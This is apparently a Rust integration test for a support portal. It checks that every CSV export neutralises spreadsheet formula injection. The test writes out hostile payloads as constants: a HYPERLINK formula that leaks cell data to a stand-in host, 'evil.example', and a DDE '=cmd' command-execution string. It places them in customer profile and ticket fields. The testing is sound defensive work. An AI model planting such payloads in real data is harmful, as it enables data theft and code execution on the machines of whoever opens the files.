//! Spreadsheet formula injection: every CSV the portal writes — the
//! customer's archive, the admin's export of every module and the request
//! register — starts a cell that a spreadsheet would run as a formula with an
//! apostrophe. The payloads are written where customers and agents can write.
#![allow(clippy::unwrap_used)]
use crate::common::{self, staff, PASSWORD};

use app::{
    fields::{CustomFieldInput, FieldInput},
    model::Role,
    server::{
        services::{erasure, exports, fields, profile, requests, tickets},
        Actor, AppState,
    },
};
use std::io::Read;
use uuid::Uuid;

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
const CMD: &str = "=cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)";
const STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The CSV files of a ZIP archive, by name, as rows of cells.
fn csv_files(zip_bytes: &[u8]) -> Vec<(String, Vec<Vec<String>>)> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip_bytes)).unwrap();
    let mut out = Vec::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().into_owned();
        if !name.ends_with(".csv") {
            continue;
        }
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes).unwrap();
        out.push((name, rows(&bytes)));
    }
    out
}

fn rows(csv_bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No cell of any file starts a formula; each payload is there, defused.
fn assert_guarded(files: &[(String, Vec<Vec<String>>)], payloads: &[&str]) {
    assert!(!files.is_empty());
    for (name, rows) in files {
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(STARTS),
                "{name}: a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    for payload in payloads {
        let defused = format!("'{payload}");
        assert!(
            files
                .iter()
                .flat_map(|(_, rows)| rows.iter().flatten())
                .any(|cell| cell.contains(&defused)),
            "{payload:?} is not in any CSV, defused"
        );
    }
}

async fn download(state: &AppState, actor: &Actor, id: Uuid) -> Vec<u8> {
    assert!(server::exports_worker::work_once(state).await);
    common::downloaded(state, actor, id).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_csv_the_portal_writes_defuses_formulas() {
    let state = common::state().await;
    let admin = staff(&state, "root@example.org", Role::Admin).await;
    let agent = staff(&state, "agnes@example.org", Role::Agent).await;
    let mallory = common::customer(&state, "Mallory", "mallory@example.org").await;
    let note = fields::save_def(
        &state,
        &admin,
        CustomFieldInput {
            scope: "contact".into(),
            label: "Note".into(),
            field_type: "text".into(),
            encrypted: true,
            ..Default::default()
        },
    )
    .await
    .unwrap();
    profile::update(
        &state,
        &mallory,
        None,
        &[
            FieldInput {
                key: "name".into(),
                values: vec![HYPERLINK.into()],
            },
            FieldInput {
                key: "phone".into(),
                values: vec!["+1 555 0100".into()],
            },
            FieldInput {
                key: app::fields::custom_key(note.id),
                values: vec![CMD.into()],
            },
        ],
    )
    .await
    .unwrap();
    let ticket = tickets::open(&state, &mallory, SUM, CMD, &[])
        .await
        .unwrap();
    tickets::reply(&state, &agent, ticket, "-1 day refund", false)
        .await
        .unwrap();
    erasure::request(&state, &mallory, PASSWORD, HYPERLINK)
        .await
        .unwrap();

    // The customer's own archive.
    let mine = exports::request(&state, &mallory, PASSWORD).await.unwrap();
    let archive = csv_files(&download(&state, &mallory, mine.id).await);
    let names: Vec<&str> = archive.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "profile.csv",
            "tickets.csv",
            "messages.csv",
            "requests.csv",
            "activity.csv"
        ]
    );
    assert_guarded(&archive, &[HYPERLINK, CMD, SUM, "+1 555 0100", "-1 day"]);

    // The admin's export of every module.
    let all = exports::request_all(&state, &admin, PASSWORD)
        .await
        .unwrap();
    let export = csv_files(&download(&state, &admin, all.id).await);
    assert!(export.len() >= 8, "{} CSV files", export.len());
    assert_guarded(&export, &[HYPERLINK, CMD, SUM, "-1 day"]);

    // The request register (it names nobody: only its own columns).
    let register = requests::register::csv(&state, &admin).await.unwrap();
    assert_guarded(&[("register.csv".into(), rows(&register))], &[]);
}
